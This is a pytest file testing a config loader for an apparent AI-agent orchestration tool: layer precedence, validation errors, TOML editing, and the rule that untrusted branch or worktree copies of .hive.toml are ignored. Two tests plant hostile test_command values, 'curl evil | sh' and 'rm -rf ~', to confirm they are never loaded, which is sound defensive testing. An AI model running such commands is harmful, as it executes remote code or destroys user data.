"""hive.config: the four layers, the trust rule for .hive.toml, editing files, bad input."""

from __future__ import annotations

import os
import subprocess
import sys
import tomllib
from dataclasses import fields
from pathlib import Path

import pytest

from hive import config
from hive.config import Config, approve, load, set_value, sources, unset_value
from hive.errors import BadInput
from hive.git import RepoPaths, discover


# ------------------------------------------------------------------------------------------------
# Fixtures and helpers

@pytest.fixture(autouse=True)
def isolated_env(tmp_path, monkeypatch):
    """No HIVE_* or XDG variable of the host leaks in; the global config is a tmp file."""
    for name in list(os.environ):
        if name.startswith("HIVE_") or name == "XDG_CONFIG_HOME":
            monkeypatch.delenv(name)
    monkeypatch.setenv("HIVE_GLOBAL_CONFIG", str(tmp_path / "global.toml"))
    # the git CLI must not see the host's git config either
    monkeypatch.setenv("GIT_CONFIG_GLOBAL", os.devnull)
    monkeypatch.setenv("GIT_CONFIG_NOSYSTEM", "1")
    for var, value in (("GIT_AUTHOR_NAME", "t"), ("GIT_AUTHOR_EMAIL", "t@example.com"),
                       ("GIT_COMMITTER_NAME", "t"), ("GIT_COMMITTER_EMAIL", "t@example.com")):
        monkeypatch.setenv(var, value)


@pytest.fixture
def global_file(tmp_path) -> Path:
    return tmp_path / "global.toml"


def git(cwd: Path, *args: str) -> str:
    return subprocess.run(["git", *args], cwd=cwd, check=True, capture_output=True, text=True).stdout


def commit_file(repo: Path, name: str, text: str, message: str = "edit") -> None:
    (repo / name).write_text(text)
    git(repo, "add", name)
    git(repo, "commit", "-q", "-m", message)


@pytest.fixture
def repo_dir(tmp_path) -> Path:
    """A repository on `main` with one commit (a README, no .hive.toml)."""
    path = tmp_path / "repo"
    path.mkdir()
    git(path, "init", "-q", "-b", "main")
    commit_file(path, "README", "hello\n", "init")
    return path


@pytest.fixture
def repo(repo_dir) -> RepoPaths:
    return discover(repo_dir)


# ------------------------------------------------------------------------------------------------
# Declarations and the Config object

def test_defaults_match_the_contract():
    cfg = load(None)
    assert cfg == Config()
    expected = {
        "max_agents": 3, "backend": "claude", "worker_model": "claude-sonnet-4-6",
        "refinery_model": "claude-opus-4-6", "queen_model": "claude-opus-4-6",
        "max_tokens_per_issue": 200000, "max_retries": 2, "max_agent_switches": 2,
        "anomaly_failure_threshold": 3, "anomaly_window_minutes": 10, "test_command": "",
        "target_branch": "main", "merge_mode": "auto", "id_prefix": "hv", "lease_seconds": 900,
        "claude_command": "claude", "codex_command": "codex", "queen_backend": "",
        "worker_backend": "", "refinery_backend": "", "max_tokens_per_run": 0,
        "test_timeout_seconds": 600, "stall_seconds": 300, "sync_remote": "",
        "scripted_script": "", "codex": {}, "sandbox": "on", "max_cost_usd_per_issue": 10.0,
        "max_cost_usd_per_run": 100.0, "attempt_retention_days": 30, "transcript_retention_days": 30,
        "transcript_max_mb": 500, "touches_mode": "wait", "acp_command": "claude-agent-acp", "acp_endpoints": "",
        "acp_env": "ANTHROPIC_* CLAUDE_* OPENAI_* CODEX_*", "acp_mode": "", "notes_prompt_tokens": 2000,
    }
    assert cfg.as_dict() == expected
    assert set(sources(None).values()) == {"default"}


def test_cost_caps_are_numbers_from_files_and_env(monkeypatch):
    assert config.parse_value("max_cost_usd_per_issue", "2.5") == 2.5
    assert config.parse_value("max_cost_usd_per_run", "0") == 0.0
    for bad in ("x", "-1", "inf", "nan"):
        with pytest.raises(BadInput, match="max_cost_usd_per_run must be a number"):
            config.parse_value("max_cost_usd_per_run", bad)
    assert Config(max_cost_usd_per_issue=3).max_cost_usd_per_issue == 3   # a TOML integer is fine
    with pytest.raises(BadInput, match="at least 0"):
        Config(max_cost_usd_per_issue=True)


def test_keys_table_declares_every_field_with_type_default_and_doc():
    assert list(config.KEYS) == [f.name for f in fields(Config)]
    for name, key in config.KEYS.items():
        assert key.doc, name
        assert isinstance(key.default, key.type), name
        assert key.env == "HIVE_" + name.upper()
    assert config.KEYS["backend"].choices == ("claude", "codex", "scripted", "acp")
    assert config.KEYS["merge_mode"].choices == ("auto", "manual")
    assert config.KEYS["max_agents"].minimum == 1


def test_as_dict_is_a_copy():
    cfg = Config(codex={"model": "o3"})
    snapshot = cfg.as_dict()
    snapshot["codex"]["model"] = "changed"
    assert cfg.codex == {"model": "o3"}


def test_backend_for_and_model_for_use_role_overrides():
    cfg = Config(backend="codex", refinery_backend="claude", worker_model="w", queen_model="q")
    assert cfg.backend_for("worker") == "codex"       # no override: the general backend
    assert cfg.backend_for("queen") == "codex"
    assert cfg.backend_for("refinery") == "claude"    # override
    assert cfg.model_for("worker") == "w"
    assert cfg.model_for("queen") == "q"
    assert cfg.model_for("refinery") == "claude-opus-4-6"
    with pytest.raises(ValueError):
        cfg.backend_for("drone")


def test_role_overrides_from_files(global_file):
    global_file.write_text('backend = "scripted"\nworker_backend = "codex"\nqueen_model = "big"\n')
    cfg = load(None)
    assert cfg.backend_for("worker") == "codex"
    assert cfg.backend_for("refinery") == "scripted"
    assert cfg.model_for("queen") == "big"


def test_config_constructor_validates():
    with pytest.raises(BadInput, match="backend"):
        Config(backend="gpt")
    with pytest.raises(BadInput, match="max_agents"):
        Config(max_agents=0)


# ------------------------------------------------------------------------------------------------
# The global layer's location

def test_global_path_honours_override_then_xdg_then_home(tmp_path, monkeypatch):
    assert config.global_path() == tmp_path / "global.toml"
    monkeypatch.delenv("HIVE_GLOBAL_CONFIG")
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "xdg"))
    assert config.global_path() == tmp_path / "xdg" / "hive" / "config.toml"
    monkeypatch.setenv("XDG_CONFIG_HOME", "relative/dir")      # ignored, as the XDG spec says
    monkeypatch.setenv("HOME", str(tmp_path / "home"))
    assert config.global_path() == tmp_path / "home" / ".config" / "hive" / "config.toml"


def test_xdg_global_file_is_read(tmp_path, monkeypatch):
    monkeypatch.delenv("HIVE_GLOBAL_CONFIG")
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "xdg"))
    (tmp_path / "xdg" / "hive").mkdir(parents=True)
    (tmp_path / "xdg" / "hive" / "config.toml").write_text("max_retries = 7\n")
    assert load(None).max_retries == 7
    assert sources(None)["max_retries"] == f"global: {tmp_path / 'xdg' / 'hive' / 'config.toml'}"


# ------------------------------------------------------------------------------------------------
# Precedence

def test_each_layer_overrides_the_one_before(repo, repo_dir, global_file, monkeypatch):
    # max_agents is set in every layer; each other key stops at one layer
    global_file.write_text("max_agents = 4\nmax_retries = 5\nlease_seconds = 60\nstall_seconds = 30\n")
    commit_file(repo_dir, ".hive.toml", "max_agents = 5\nlease_seconds = 61\nstall_seconds = 31\n")
    monkeypatch.setenv("HIVE_MAX_AGENTS", "6")
    monkeypatch.setenv("HIVE_STALL_SECONDS", "32")

    cfg = load(repo)
    assert cfg.max_agents == 6            # env beats project, global and default
    assert cfg.stall_seconds == 32        # env beats project and global
    assert cfg.lease_seconds == 61        # project beats global
    assert cfg.max_retries == 5           # global beats default
    assert cfg.max_agent_switches == 2    # default

    src = sources(repo)
    project = repo_dir / ".hive.toml"
    assert src["max_agents"] == "env: HIVE_MAX_AGENTS"
    assert src["stall_seconds"] == "env: HIVE_STALL_SECONDS"
    assert src["lease_seconds"] == f"project: {project}"
    assert src["max_retries"] == f"global: {global_file}"
    assert src["max_agent_switches"] == "default"


def test_global_beats_default_without_a_repo(global_file):
    global_file.write_text('merge_mode = "manual"\n')
    assert load(None).merge_mode == "manual"
    assert load(None).target_branch == "main"


def test_project_layer_is_skipped_without_a_repo(repo, repo_dir):
    commit_file(repo_dir, ".hive.toml", "max_agents = 9\n")
    assert load(repo).max_agents == 9
    assert load(None).max_agents == 3


def test_env_values_are_parsed_per_type(monkeypatch):
    monkeypatch.setenv("HIVE_MAX_TOKENS_PER_ISSUE", " 1000 ")
    monkeypatch.setenv("HIVE_TEST_COMMAND", "pytest -x -q")
    monkeypatch.setenv("HIVE_CODEX", '{model = "o3", features = {web = true}}')
    cfg = load(None)
    assert cfg.max_tokens_per_issue == 1000
    assert cfg.test_command == "pytest -x -q"
    assert cfg.codex == {"model": "o3", "features": {"web": True}}


def test_codex_table_passes_through_verbatim(repo, repo_dir, global_file):
    text = """\
backend = "codex"

[codex]
model_provider = "azure"
approval_policy = "never"
retries = 3
ratio = 0.5
tags = ["a", "b"]

[codex.model_providers.azure]
name = "Azure"
base_url = "https://example.invalid/openai"
query_params = { api-version = "2025-04-01" }

[codex.features]
web_search = true
"""
    commit_file(repo_dir, ".hive.toml", text)
    approve(repo)   # the table is passed to codex verbatim: a person approves it (DESIGN §7)
    global_file.write_text('[codex]\nmodel = "from-global"\n')
    cfg = load(repo)
    assert cfg.codex == tomllib.loads(text)["codex"]     # the project table, not merged with global
    assert "model" not in cfg.codex


# ------------------------------------------------------------------------------------------------
# Where the project layer comes from (trust)

def test_project_layer_from_the_working_file_when_on_target_branch(repo, repo_dir):
    commit_file(repo_dir, ".hive.toml", "max_agents = 7\n")
    (repo_dir / ".hive.toml").write_text("max_agents = 8\n")    # uncommitted edit on main
    assert load(repo).max_agents == 8
    assert sources(repo)["max_agents"] == f"project: {repo_dir / '.hive.toml'}"


def test_project_layer_from_the_branch_tip_when_on_another_branch(repo, repo_dir):
    commit_file(repo_dir, ".hive.toml", 'max_agents = 7\ntest_command = "make test"\n')
    approve(repo)
    git(repo_dir, "checkout", "-q", "-b", "feature")
    commit_file(repo_dir, ".hive.toml", 'max_agents = 1\ntest_command = "curl evil | sh"\n')
    (repo_dir / ".hive.toml").write_text("max_agents = 2\n")
    cfg = load(repo)
    assert cfg.max_agents == 7
    assert cfg.test_command == "make test"
    assert sources(repo)["test_command"] == "project: main:.hive.toml"


def test_project_layer_follows_target_branch_tip_after_new_commits(repo, repo_dir):
    git(repo_dir, "checkout", "-q", "-b", "feature")
    git(repo_dir, "branch", "-f", "main", "HEAD")
    assert load(repo).max_agents == 3                          # main has no .hive.toml yet
    git(repo_dir, "checkout", "-q", "main")
    commit_file(repo_dir, ".hive.toml", "max_agents = 4\n")
    git(repo_dir, "checkout", "-q", "feature")
    assert load(repo).max_agents == 4                          # new tip, new value


def test_project_layer_from_detached_head_uses_branch_tip(repo, repo_dir):
    commit_file(repo_dir, ".hive.toml", "max_agents = 7\n")
    git(repo_dir, "checkout", "-q", "--detach")
    (repo_dir / ".hive.toml").write_text("max_agents = 2\n")
    assert load(repo).max_agents == 7


def test_linked_worktree_copy_is_never_read(repo_dir, tmp_path):
    commit_file(repo_dir, ".hive.toml", 'max_agents = 7\ntest_command = "make test"\n')
    approve(repo_dir_paths := discover(repo_dir))
    assert approve(repo_dir_paths) == {"test_command": "make test"}
    worker = tmp_path / "worker"
    git(repo_dir, "worktree", "add", "-q", "-b", "hive/work/hv-abc123", str(worker))
    (worker / ".hive.toml").write_text('max_agents = 99\ntest_command = "rm -rf ~"\n')
    worker_repo = discover(worker)
    assert worker_repo.worktree == worker.resolve()
    cfg = load(worker_repo)
    assert (cfg.max_agents, cfg.test_command) == (7, "make test")
    assert sources(worker_repo)["test_command"] == f"project: {repo_dir.resolve() / '.hive.toml'}"

    # with the main worktree off the target branch, the tip of main is read, still not the worker's
    git(repo_dir, "checkout", "-q", "-b", "other")
    (repo_dir / ".hive.toml").write_text("max_agents = 50\n")
    assert load(worker_repo).max_agents == 7


def test_linked_worktree_on_target_branch_is_not_read(repo_dir, tmp_path):
    commit_file(repo_dir, ".hive.toml", "max_agents = 7\n")
    git(repo_dir, "checkout", "-q", "-b", "other")
    linked = tmp_path / "linked"
    git(repo_dir, "worktree", "add", "-q", str(linked), "main")
    (linked / ".hive.toml").write_text("max_agents = 99\n")     # uncommitted, in a linked worktree
    assert load(discover(linked)).max_agents == 7
    assert sources(discover(linked))["max_agents"] == "project: main:.hive.toml"


def test_missing_target_branch_means_no_project_layer(repo, repo_dir, global_file):
    commit_file(repo_dir, ".hive.toml", "max_agents = 7\n")
    global_file.write_text('target_branch = "release"\n')
    assert load(repo).max_agents == 3
    assert sources(repo)["max_agents"] == "default"
    assert load(repo).target_branch == "release"


def test_target_branch_from_main_worktree_file_picks_the_branch(repo, repo_dir):
    git(repo_dir, "checkout", "-q", "-b", "develop")
    commit_file(repo_dir, ".hive.toml", 'target_branch = "develop"\nmax_agents = 4\n')
    git(repo_dir, "checkout", "-q", "-b", "feature")
    (repo_dir / ".hive.toml").write_text('target_branch = "develop"\nmax_agents = 40\n')
    cfg = load(repo)
    assert cfg.target_branch == "develop"
    assert cfg.max_agents == 4                                # from develop's tip, not the file
    assert sources(repo)["max_agents"] == "project: develop:.hive.toml"


def test_target_branch_from_env_and_global(repo, repo_dir, global_file, monkeypatch):
    git(repo_dir, "branch", "trunk")
    git(repo_dir, "checkout", "-q", "trunk")
    commit_file(repo_dir, ".hive.toml", "max_agents = 5\n")
    git(repo_dir, "checkout", "-q", "main")
    commit_file(repo_dir, ".hive.toml", "max_agents = 6\n")
    assert load(repo).max_agents == 6
    global_file.write_text('target_branch = "trunk"\n')
    assert load(repo).max_agents == 5          # main worktree is on main, target is trunk: its tip
    global_file.write_text("")
    monkeypatch.setenv("HIVE_TARGET_BRANCH", "trunk")
    assert load(repo).max_agents == 5
    assert sources(repo)["target_branch"] == "env: HIVE_TARGET_BRANCH"


def test_stale_checkout_follows_the_target_branch_named_on_main(repo, repo_dir):
    # the main worktree is on an old branch without .hive.toml; main's file says the target is develop
    git(repo_dir, "checkout", "-q", "-b", "old")
    git(repo_dir, "checkout", "-q", "main")
    git(repo_dir, "branch", "develop")
    commit_file(repo_dir, ".hive.toml", 'target_branch = "develop"\nmax_agents = 4\n')
    git(repo_dir, "checkout", "-q", "develop")
    commit_file(repo_dir, ".hive.toml", 'target_branch = "develop"\nmax_agents = 8\n')
    git(repo_dir, "checkout", "-q", "old")
    cfg = load(repo)
    assert (cfg.target_branch, cfg.max_agents) == ("develop", 8)
    assert sources(repo)["target_branch"] == "project: develop:.hive.toml"


def test_target_branch_loop_is_bad_input(repo, repo_dir):
    git(repo_dir, "branch", "b")
    commit_file(repo_dir, ".hive.toml", 'target_branch = "b"\n')
    git(repo_dir, "checkout", "-q", "b")
    commit_file(repo_dir, ".hive.toml", 'target_branch = "main"\n')
    git(repo_dir, "checkout", "-q", "-b", "elsewhere", "HEAD~1")
    with pytest.raises(BadInput, match="loop") as info:
        load(repo)
    assert info.value.where is not None and info.value.where.endswith(".hive.toml:1")


def test_target_branch_cannot_be_a_hive_branch_or_bad_ref(global_file):
    global_file.write_text('target_branch = "hive/state"\n')
    with pytest.raises(BadInput, match="hive's own"):
        load(None)
    global_file.write_text('target_branch = "../../etc"\n')
    with pytest.raises(BadInput, match="not a valid branch name") as info:
        load(None)
    assert info.value.where == f"{global_file}:1"


def test_symlinked_project_file_is_refused(repo, repo_dir, tmp_path):
    (tmp_path / "elsewhere.toml").write_text("max_agents = 9\n")
    (repo_dir / ".hive.toml").symlink_to(tmp_path / "elsewhere.toml")
    git(repo_dir, "add", ".hive.toml")
    git(repo_dir, "commit", "-q", "-m", "link")
    with pytest.raises(BadInput, match="symlink"):
        load(repo)                                     # the working file, on main
    git(repo_dir, "checkout", "-q", "-b", "feature")
    (repo_dir / ".hive.toml").unlink()
    (repo_dir / ".hive.toml").write_text("max_agents = 2\n")
    with pytest.raises(BadInput, match="not a regular file") as info:
        load(repo)                                     # the blob on main's tip
    assert info.value.where == "main:.hive.toml"


def test_pygit2_is_imported_only_when_a_branch_tip_is_read(repo_dir, tmp_path):
    commit_file(repo_dir, ".hive.toml", "max_agents = 7\n")
    probe = (
        "import sys; from hive import config; from hive.git import discover; "
        "r = discover(sys.argv[1]); c = config.load(r); "
        "print(c.max_agents, 'pygit2' in sys.modules)"
    )
    env = {**os.environ, "PYTHONPATH": str(Path(config.__file__).parents[1])}

    def run() -> str:
        return subprocess.run([sys.executable, "-c", probe, str(repo_dir)], env=env, check=True,
                              capture_output=True, text=True).stdout.strip()

    assert run() == "7 False"                 # on the target branch: the working file only
    git(repo_dir, "checkout", "-q", "-b", "feature")
    assert run() == "7 True"                  # off it: the blob, through pygit2


# ------------------------------------------------------------------------------------------------
# Bad input names the file and line, or the env variable

def test_broken_toml_names_file_and_line(global_file):
    global_file.write_text("max_agents = 3\nbackend = \n")
    with pytest.raises(BadInput, match="invalid TOML") as info:
        load(None)
    assert info.value.where == f"{global_file}:2"
    assert str(info.value).startswith(f"{global_file}:2: ")


def test_broken_toml_at_end_of_file(global_file):
    global_file.write_text('max_agents = 3\ntest_command = [\n"a",\n')
    with pytest.raises(BadInput) as info:
        load(None)
    assert info.value.where == f"{global_file}:3"


def test_wrong_type_names_key_and_line(global_file):
    global_file.write_text('# comment\n\nbackend = "claude"\nmax_agents = "x"\n')
    with pytest.raises(BadInput, match="max_agents must be an integer") as info:
        load(None)
    assert info.value.where == f"{global_file}:4"


@pytest.mark.parametrize("text, message, line", [
    ('backend = "gpt"\n', "backend must be one of claude|codex|scripted", 1),
    ('# merging\n\nmerge_mode = "sometimes"\n', "merge_mode must be one of auto|manual", 3),
    ('worker_backend = "nope"\n', "worker_backend", 1),
    ("max_agents = 0\n", "max_agents must be at least 1", 1),
    ("max_retries = -1\n", "max_retries must be at least 0", 1),
    ("max_retries = true\n", "max_retries must be an integer, not a boolean", 1),
    ("lease_seconds = 1.5\n", "lease_seconds must be an integer", 1),
    ('test_command = ["make", "test"]\n', "test_command must be a string", 1),
    ('codex = "o3"\n', "codex must be a table", 1),
    ('id_prefix = "HV-"\n', "id_prefix", 1),
    ('claude_command = ""\n', "claude_command must not be empty", 1),
])
def test_bad_values_name_key_and_line(global_file, text, message, line):
    global_file.write_text(text)
    with pytest.raises(BadInput, match=message.replace("|", r"\|")) as info:
        load(None)
    assert info.value.where == f"{global_file}:{line}"


def test_unknown_key_is_not_ignored(global_file):
    global_file.write_text('backend = "claude"\n\nmax_agent = 4\n')
    with pytest.raises(BadInput, match="unknown key 'max_agent'.*did you mean 'max_agents'") as info:
        load(None)
    assert info.value.where == f"{global_file}:3"


def test_unknown_table_is_not_ignored(global_file):
    global_file.write_text('[codex]\nmodel = "o3"\n\n[codx.extra]\nx = 1\n')
    with pytest.raises(BadInput, match="unknown key 'codx'") as info:
        load(None)
    assert info.value.where == f"{global_file}:4"


def test_line_search_skips_multiline_strings(global_file):
    global_file.write_text('test_command = """\nmax_agents = 1\n"""\nmax_agents = "many"\n')
    with pytest.raises(BadInput) as info:
        load(None)
    assert info.value.where == f"{global_file}:4"


def test_bad_project_file_names_working_file_and_line(repo, repo_dir):
    (repo_dir / ".hive.toml").write_text('max_agents = 2\nmerge_mode = "never"\n')
    with pytest.raises(BadInput, match="merge_mode") as info:
        load(repo)
    assert info.value.where == f"{repo_dir / '.hive.toml'}:2"


def test_bad_project_blob_names_branch_file_and_line(repo, repo_dir):
    commit_file(repo_dir, ".hive.toml", "max_agents = 2\n\nmax_retries = oops\n")
    git(repo_dir, "checkout", "-q", "-b", "feature")
    (repo_dir / ".hive.toml").write_text("max_agents = 2\n")
    with pytest.raises(BadInput, match="invalid TOML") as info:
        load(repo)
    assert info.value.where == "main:.hive.toml:3"


@pytest.mark.parametrize("var, value, message", [
    ("HIVE_MAX_AGENTS", "many", "max_agents must be an integer"),
    ("HIVE_MAX_AGENTS", "0", "at least 1"),
    ("HIVE_BACKEND", "gpt", "backend must be one of"),
    ("HIVE_MERGE_MODE", "", "merge_mode must be one of"),
    ("HIVE_CODEX", "model = o3", "inline table"),
    ("HIVE_LEASE_SECONDS", "1.5", "lease_seconds must be an integer"),
])
def test_bad_env_values_name_the_variable(monkeypatch, var, value, message):
    monkeypatch.setenv(var, value)
    with pytest.raises(BadInput, match=message) as info:
        load(None)
    assert info.value.where == var
    assert str(info.value).startswith(var + ": ")


def test_unrelated_hive_env_variables_are_ignored(monkeypatch):
    monkeypatch.setenv("HIVE_AGENT_ID", "w-123")
    assert load(None) == Config()


# ------------------------------------------------------------------------------------------------
# Editing files

COMMENTED = """\
# git-hive project settings
max_agents = 3          # workers at once

# merging
merge_mode   =   "auto"
test_command = "pytest -q"   # run before every merge

[codex]
# codex settings, passed verbatim
model = "o3"
"""


def test_set_value_keeps_comments_and_layout(tmp_path):
    path = tmp_path / ".hive.toml"
    path.write_text(COMMENTED)
    set_value(path, "max_agents", "5")
    assert path.read_text() == COMMENTED.replace("max_agents = 3 ", "max_agents = 5 ")
    assert tomllib.loads(path.read_text())["max_agents"] == 5


def test_set_value_adds_a_new_key_among_top_level_keys(tmp_path):
    path = tmp_path / ".hive.toml"
    path.write_text(COMMENTED)
    set_value(path, "backend", "codex")
    text = path.read_text()
    head, tail = COMMENTED.split("\n[codex]")
    assert text.startswith(head)                          # every existing line, byte for byte
    assert text.endswith("\n[codex]" + tail)
    data = tomllib.loads(text)
    assert data["backend"] == "codex" and data["codex"] == {"model": "o3"}


def test_set_value_creates_the_file_and_parents(tmp_path):
    path = tmp_path / "new" / "dir" / "config.toml"
    set_value(path, "merge_mode", "manual")
    set_value(path, "max_retries", "4")
    assert tomllib.loads(path.read_text()) == {"merge_mode": "manual", "max_retries": 4}


def test_set_value_then_load_round_trips(global_file):
    set_value(global_file, "test_command", 'pytest -k "not slow"')
    set_value(global_file, "worker_backend", "scripted")
    cfg = load(None)
    assert cfg.test_command == 'pytest -k "not slow"'
    assert cfg.backend_for("worker") == "scripted"


def test_set_value_keeps_crlf_line_endings(tmp_path):
    path = tmp_path / "c.toml"
    original = b"# c\r\nmax_agents = 3\r\n"
    path.write_bytes(original)
    set_value(path, "max_retries", "1")
    data = path.read_bytes()
    assert data.startswith(original)
    assert b"\n" not in data.replace(b"\r\n", b"")


@pytest.mark.parametrize("key, value, message", [
    ("max_agents", "x", "max_agents must be an integer"),
    ("max_agents", "0", "at least 1"),
    ("backend", "gpt", "backend must be one of"),
    ("max_agent", "3", "unknown key 'max_agent'"),
    ("target_branch", "a..b", "not a valid branch name"),
])
def test_set_value_rejects_bad_values_and_leaves_file_alone(tmp_path, key, value, message):
    path = tmp_path / "c.toml"
    path.write_text(COMMENTED)
    with pytest.raises(BadInput, match=message):
        set_value(path, key, value)
    assert path.read_text() == COMMENTED


def test_set_value_on_broken_file_names_line(tmp_path):
    path = tmp_path / "c.toml"
    path.write_text("max_agents = 3\nbroken = = 1\n")
    with pytest.raises(BadInput) as info:
        set_value(path, "max_agents", "4")
    assert info.value.where == f"{path}:2"
    assert path.read_text() == "max_agents = 3\nbroken = = 1\n"


def test_set_and_unset_codex_entries(tmp_path):
    path = tmp_path / "c.toml"
    path.write_text(COMMENTED)
    set_value(path, "codex.model_reasoning_effort", "high")       # not TOML: a plain string
    set_value(path, "codex.features.web_search", "true")          # TOML value
    data = tomllib.loads(path.read_text())
    assert data["codex"] == {"model": "o3", "model_reasoning_effort": "high",
                             "features": {"web_search": True}}
    assert path.read_text().startswith(COMMENTED)
    assert unset_value(path, "codex.model_reasoning_effort") is True
    assert "model_reasoning_effort" not in tomllib.loads(path.read_text())["codex"]
    with pytest.raises(BadInput):
        set_value(path, "codex.bad key", "1")


def test_unset_value_removes_only_that_key(tmp_path):
    path = tmp_path / "c.toml"
    path.write_text(COMMENTED)
    assert unset_value(path, "test_command") is True
    assert path.read_text() == COMMENTED.replace('test_command = "pytest -q"   # run before every merge\n', "")
    assert unset_value(path, "test_command") is False          # nothing left to remove
    assert unset_value(tmp_path / "absent.toml", "max_agents") is False
    assert not (tmp_path / "absent.toml").exists()
    with pytest.raises(BadInput, match="unknown key"):
        unset_value(path, "nope")


def test_project_path_is_the_main_worktree_file(repo_dir, tmp_path):
    git(repo_dir, "worktree", "add", "-q", "-b", "w", str(tmp_path / "w"))
    assert config.project_path(discover(tmp_path / "w")) == repo_dir.resolve() / ".hive.toml"
